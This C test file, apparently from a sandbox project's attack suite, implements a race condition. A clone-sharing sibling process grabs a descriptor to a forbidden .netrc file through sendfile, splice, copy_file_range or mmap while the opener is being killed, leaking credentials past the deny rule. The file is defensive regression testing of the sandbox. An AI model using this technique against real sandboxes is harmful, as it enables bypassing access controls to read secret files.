// A process that shares the table of descriptors takes what is in a forbidden file while the one that opened it is being
// killed: the race that SECURITY.md tells of, on the tracepoint tier. By hand, on a machine with two CPUs:
//
//   cc -O1 -o siblings tests/attacks/siblings.c
//   mkdir -m 777 place; echo HIDDEN > place/.netrc; truncate -s 4096 place/copy; chmod 666 place/copy
//   turnkey run --write $PWD/place -- ./siblings $PWD/place send    or: map, splice, copy
//
// The content is out when the run prints it, or when it is in place/copy.
//
// With a number behind, for a rule that denies: so many opens one after the other, while the sibling goes on taking. Told is
// how many gave a descriptor, and how often the sibling took something.
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/wait.h>
#include <unistd.h>

enum { MUCH = 4096 };

static int next, copy;
static char *copied, *way, stack[1 << 16];
// How often the sibling tried, and how often it took something.
static volatile unsigned long *beat, *taken;
static int opens;

static void stay_on(int CPU)
{
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(CPU, &set);
    sched_setaffinity(0, sizeof set, &set);
}

static int take(void)
{
    loff_t from = 0, to = 0;
    off_t start = 0;
    switch (way[1]) {
    case 'e':
        return sendfile(1, next, &start, MUCH) > 0;
    case 'p':
        return splice(next, &from, 1, NULL, MUCH, 0) > 0;
    case 'o':
        return copy_file_range(next, &from, copy, &to, MUCH, 0) > 0;
    default: {
        char *mapped = mmap(NULL, MUCH, PROT_READ, MAP_PRIVATE | MAP_POPULATE, next, 0);
        if (mapped == MAP_FAILED)
            return 0;
        memcpy(copied, mapped, sizeof "HIDDEN");
        munmap(mapped, MUCH);
        return 1;
    }
    }
}

static int sibling(void *unused)
{
    stay_on(1);
    for (;;) {
        if (take()) {
            ++*taken;
            if (!opens)
                return 0;
        }
        ++*beat;
    }
}

static int many(pid_t other)
{
    int opened = 0, last = -1;
    for (int index = 0; index < opens; index++) {
        if (last >= 0)
            close(last);
        last = open("link", O_RDONLY);
        opened += last >= 0;
    }
    // What is open in the end stays so for as long as it takes the sibling.
    usleep(100000);
    kill(other, SIGKILL);
    wait(NULL);
    fprintf(stderr, "opened %d of %d, taken %lu of %lu\n", opened, opens, *taken, *beat);
    return 0;
}

int main(int count, char **arguments)
{
    if (count < 3 || chdir(arguments[1]) != 0)
        return 2;
    way = arguments[2];
    opens = count > 3 ? atoi(arguments[3]) : 0;
    copy = open("copy", O_RDWR);
    copied = mmap(NULL, MUCH, PROT_READ | PROT_WRITE, MAP_SHARED, copy, 0);
    beat = mmap(NULL, MUCH, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    taken = beat + 1;
    // By a link, because a name that is forbidden kills before there is a descriptor.
    unlink("link");
    symlink(".netrc", "link");
    // The next descriptor that is handed out.
    next = open("/dev/null", O_RDONLY);
    close(next);
    pid_t other = clone(sibling, stack + sizeof stack, CLONE_FILES | SIGCHLD, NULL);
    stay_on(0);
    while (*beat < 100)
        usleep(200);
    if (opens)
        return many(other);
    // Until the other one is seen to run at this very moment.
    for (int looks = 0; looks < 400000; looks++) {
        unsigned long before = *beat;
        for (volatile int pause = 0; pause < 2000; pause++)
            ;
        if (*beat - before > 2)
            break;
    }
    open("link", O_RDONLY);
    wait(NULL);
    return 0;
}
